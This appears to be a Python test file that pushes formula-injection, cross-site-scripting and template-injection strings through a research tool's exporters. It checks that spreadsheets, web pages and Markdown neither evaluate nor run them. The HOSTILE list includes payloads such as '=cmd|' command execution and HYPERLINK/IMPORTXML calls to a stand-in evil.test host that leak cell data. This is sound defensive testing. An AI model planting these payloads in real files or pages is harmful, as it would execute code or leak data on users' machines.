"""Hostile words, names, file names and columns, through every exporter: nothing is run, cut unseen or lost by what opens the files."""

from __future__ import annotations

import csv
import html.parser
import json
import re
import shutil
import subprocess
import zipfile
from dataclasses import replace
from pathlib import Path

import openpyxl
import pytest
import study_fixture

from jtbd_analyzer import registry
from jtbd_analyzer.exporters._values import is_risky
from jtbd_analyzer.model import FileStatus
from jtbd_analyzer.study import Participant, Study

#: a program for each reader: spreadsheet formulas in all their leads, markup, scripts, links, control characters
HOSTILE = (
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "\u00a0=1+1", "\u200b=1+1", "\uff1d1+1", "\ufe661+1", "{=1+1}",
    '=HYPERLINK("http://evil.test/?x="&A1,"click")', '=cmd|"/c calc"!A1', '=IMPORTXML("http://evil.test","//a")', "=WEBSERVICE(\"http://evil.test\")", "%0A=1+1",
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "' onmouseover='alert(1)", "<!--", "-->", "]]>",
    "<svg/onload=alert(1)>", "javascript:alert(1)", "[x](javascript:alert(1))", "![x](http://evil.test/p.png)", "<iframe src=http://evil.test>", "{{7*7}}", "${7*7}",
    "\u2028alert(1)", "#N/A", "TRUE", "1E5", "00123", "_x0041_", "\x0b bad", "\ud800 lone", "\ufffe", "\u202etxt.exe", "x" * 32_767, "x" * 32_768, "🚲" * 20_000,
    "'", "a|b", "a\nb", "`x`", "# head", "- item", "''=1+1",
)


def hostile_study() -> Study:
    """Return the small study with a hostile string in every field that comes from outside."""
    small = study_fixture.study()
    n = len(HOSTILE)
    quotes = tuple(replace(q, verbatim=HOSTILE[i % n], prompt=HOSTILE[(i + 7) % n], features=HOSTILE[(i + 3) % n][:50])
                   for i, q in enumerate((*small.quote_rows, *(replace(q, quote_id=f"{q.quote_id}b") for q in small.quote_rows))))
    texts = {t.transcript_id: "" for t in small.transcript_rows}
    placed = []
    for q in quotes:
        start = len(texts[q.transcript_id])
        texts[q.transcript_id] += q.verbatim + "\n"
        placed.append(replace(q, char_start=start, char_end=start + len(q.verbatim)))
    themes = tuple(replace(t, statement=HOSTILE[(i * 5) % n][:300], keywords=HOSTILE[(i * 3) % n][:80]) for i, t in enumerate(small.theme_rows))
    people = tuple(Participant(p.participant_id, HOSTILE[i % 18], p.transcript_ids, p.words,
                               {"=cmd|'/c calc'!A1": HOSTILE[i], "<b>col</b>": "</td><script>alert(1)</script>", "a" * 300: "x", "History": "=1"})
                   for i, p in enumerate(small.participant_rows))
    transcripts = tuple(replace(t, file='=1+1"><script>alert(1)</script>.vtt', source_text=texts[t.transcript_id], warnings=("=1+1 <script>alert(1)</script>",),
                                speakers=tuple(replace(s, name="=cmd|' /C calc'!A0") for s in t.speakers)) for t in small.transcript_rows)
    files = (FileStatus("=1+1.vtt", "read"), FileStatus("</script>.txt", "failed", "=1+1 </script>: must be text"))
    return replace(small, name='=1+1</title><script>alert(1)</script>', quote_rows=tuple(placed), theme_rows=themes, participant_rows=people,
                   transcript_rows=transcripts, files=files, features={"=1+1<script>": ("=2+2",)})


@pytest.fixture(scope="module")
def everything(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with what every exporter that there is writes of the hostile study, and the study files."""
    out = tmp_path_factory.mktemp("hostile")
    study = hostile_study()
    study.save(out / "study")
    for name in registry.names("exporters"):
        registry.build("exporters", name)(study, out)
    return out


def files_of(out: Path, *suffixes: str) -> list[Path]:
    return sorted(p for p in out.rglob("*") if p.suffix in suffixes)


def test_every_form_is_looked_at(everything: Path) -> None:
    known = {".xlsx", ".csv", ".md", ".html", ".json", ".jsonl", ".parquet", ".docx", ".qdpx", ".svg", ".txt", ".xml", ".qdc", ".css"}
    assert {p.suffix for p in everything.rglob("*") if p.is_file()} <= known, "a new form of file: say here how it is kept safe"


def test_cells_of_csv_are_no_formulas_and_keep_their_words(everything: Path) -> None:
    assert files_of(everything, ".csv")
    for path in files_of(everything, ".csv"):
        with path.open(encoding="utf-8-sig", newline="") as f:
            for row in csv.reader(f):
                for cell in row:
                    assert not is_risky(cell) or re.fullmatch(r"[-+]?\d+(\.\d+)?(e[-+]?\d+)?", cell), (path.name, cell[:60])
    said = (everything / "tables" / "quotes.csv").read_text(encoding="utf-8-sig")
    assert "'=1+1" in said
    assert "'@SUM(1+1)" in said


def test_cells_of_workbooks_are_text_and_fit(everything: Path) -> None:
    assert files_of(everything, ".xlsx")
    for path in files_of(everything, ".xlsx"):
        for sheet in openpyxl.load_workbook(path):
            assert len(sheet.title) <= 31
            assert not re.search(r"[\[\]:*?/\\]", sheet.title)
            assert sheet.title.strip("'") == sheet.title
            assert sheet.title.lower() != "history"
            assert sheet.max_column <= 16_384
            assert sheet.max_row <= 1_048_576
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type not in ("f", "e"), (path.name, sheet.title, cell.coordinate)
                    if isinstance(cell.value, str):
                        assert len(cell.value.encode("utf-16-le")) // 2 <= 32_767
                        assert not is_risky(cell.value) or cell.quotePrefix, (sheet.title, cell.coordinate)
        with zipfile.ZipFile(path) as z:
            assert not [n for n in z.namelist() if "externalLink" in n or "vbaProject" in n or n.endswith(".bin")]
            for n in z.namelist():
                assert b'TargetMode="External"' not in z.read(n) or b"evil.test" not in z.read(n), n


class Page(html.parser.HTMLParser):
    """Notes what a browser would run or fetch."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []
        self.scripts: list[str] = []
        self._script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._script = tag == "script"
        # a form without an address only groups controls; the page's own policy forbids sending one
        if tag in ("iframe", "object", "embed", "base") or (tag == "form" and {"action", "target"} & dict(attrs).keys()) or (tag == "meta" and dict(attrs).get("http-equiv", "") == "refresh"):
            self.found.append(tag)
        for key, value in attrs:
            target = (value or "").strip().lower()
            if key.startswith("on") or (key in ("href", "src", "action", "xlink:href") and target.startswith(("javascript:", "http:", "https:", "//", "data:text"))):
                self.found.append(f"{tag} {key}={target[:60]}")

    def handle_endtag(self, tag: str) -> None:
        self._script = False

    def handle_data(self, data: str) -> None:
        if self._script:
            self.scripts.append(data)


def test_pages_run_and_fetch_nothing_of_the_participants(everything: Path) -> None:
    for path in files_of(everything, ".html", ".svg"):
        page = Page()
        page.feed(path.read_text(encoding="utf-8"))
        assert page.found == [], path.name
        assert not any(s.strip().startswith("alert(1)") for s in page.scripts), path.name
        for script in page.scripts:
            assert "</" not in script or "<\\/" in script or "script>alert" not in script, path.name


def test_markdown_holds_no_live_markup(everything: Path) -> None:
    for path in files_of(everything, ".md"):
        text = path.read_text(encoding="utf-8")
        assert "<script" not in text, path.name
        assert "<img src=x" not in text, path.name
        assert not re.search(r"(?<!\\)\]\(javascript:", text), path.name
        assert not re.search(r"(?<!\\)!\[x\]\(http", text), path.name


def test_json_is_json_and_tells_the_words_as_they_were(everything: Path) -> None:
    lines = (everything / "study" / "quotes.jsonl").read_text(encoding="utf-8").split("\n")
    told = {json.loads(x)["verbatim"] for x in lines if x}
    assert {"=1+1", "</script><script>alert(1)</script>", "x" * 32_768} <= told
    for path in files_of(everything, ".json"):
        json.loads(path.read_text(encoding="utf-8"))


def test_more_columns_than_a_sheet_has(tmp_path: Path) -> None:
    """16,384 columns are the most a sheet has: a participants.csv that is wider must not break the workbook."""
    small = study_fixture.study()
    wide = {f"c{i}": "x" for i in range(16_500)}
    people = (replace(small.participant_rows[0], attributes=wide), *(replace(p, attributes=dict.fromkeys(wide, "")) for p in small.participant_rows[1:2]))
    study = replace(small, participant_rows=people)
    registry.build("exporters", "workbook")(study, tmp_path)
    book = openpyxl.load_workbook(tmp_path / "themes.xlsx", read_only=True)
    assert all((s.max_column or 0) <= 16_384 for s in book)


@pytest.mark.slow
@pytest.mark.skipif(shutil.which("soffice") is None, reason="needs LibreOffice")
class TestLibreOffice:
    """What an office program makes of the files: it opens them, and evaluates nothing."""

    def converted(self, source: Path, form: str, out: Path) -> list[Path]:
        done = subprocess.run(
            ["soffice", f"-env:UserInstallation=file://{out}/profile", "--headless", "--convert-to", form, "--outdir", str(out), str(source)],
            capture_output=True, text=True, timeout=600, check=False,
        )
        assert done.returncode == 0, done.stderr
        return sorted(p for p in out.iterdir() if p.is_file())

    def test_the_workbook_evaluates_nothing(self, everything: Path, tmp_path: Path) -> None:
        written = self.converted(everything / "themes.xlsx", "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1", tmp_path)
        assert len(written) > 10
        quotes = next(p for p in written if p.stem.endswith("-Quotes")).read_text(encoding="utf-8")
        for text in ("=1+1", "@SUM(1+1)", '=HYPERLINK(""http://evil.test', "-1+1"):
            assert text in quotes
        for path in written:
            for row in csv.reader(path.read_text(encoding="utf-8").splitlines()):
                assert not {"#NAME?", "Err:508", "#VALUE!", "click"} & set(row), path.name

    def test_the_tables_evaluate_nothing(self, everything: Path, tmp_path: Path) -> None:
        written = self.converted(everything / "tables" / "quotes.csv", "xlsx", tmp_path)
        for row in openpyxl.load_workbook(written[0]).active.iter_rows():
            for cell in row:
                assert cell.data_type != "f" or not isinstance(cell.value, str), (cell.coordinate, str(cell.value)[:80])


CHROMIUM = next((p for n in ("chromium", "chromium-browser", "google-chrome", "chrome") if (p := shutil.which(n))), "")
#: what the hostile words are made to do in a browser, without quotation marks so that it means the same inside any string, and its trace
DEED, TRACE = "document.documentElement.tabIndex=77", 'tabindex="77"'


@pytest.mark.slow
@pytest.mark.skipif(not CHROMIUM, reason="needs Chromium")
class TestChromium:
    """What a browser makes of pages and pictures: no word of theirs is run. Clicks are tried in `browser/`, which needs chromedriver."""

    def shown(self, source: Path, place: str, tmp_path: Path) -> str:
        """Return what the page is after its scripts have run."""
        page = tmp_path / f"page{source.suffix}"
        page.write_text(source.read_text(encoding="utf-8").replace("alert(1)", DEED), encoding="utf-8")
        done = subprocess.run(
            [CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", f"--user-data-dir={tmp_path}/profile", "--virtual-time-budget=3000", "--dump-dom", page.as_uri() + place],
            capture_output=True, text=True, timeout=120, check=False,
        )
        assert done.returncode == 0, done.stderr
        return done.stdout

    def test_a_page_that_runs_its_words_is_seen(self, tmp_path: Path) -> None:
        (tmp_path / "live.html").write_text("<html><body><p>x</p><img src=x onerror=alert(1)></body></html>", encoding="utf-8")
        assert TRACE in self.shown(tmp_path / "live.html", "", tmp_path)

    @pytest.mark.parametrize("place", ["", "#at=0", "#find=who:P01"])
    def test_no_page_runs_a_word(self, everything: Path, tmp_path: Path, place: str) -> None:
        pages = files_of(everything, ".html", ".svg")
        assert pages
        for page in pages:
            shown = self.shown(page, place, tmp_path)
            assert len(shown) > 500, page.name
            assert TRACE not in re.sub(r"(?s)<script\b.*?</script>", "", shown).partition(">")[0], page.name
            assert TRACE not in "".join(re.findall(r"<(?:html|svg)\b[^>]{0,2000}>", shown)), page.name
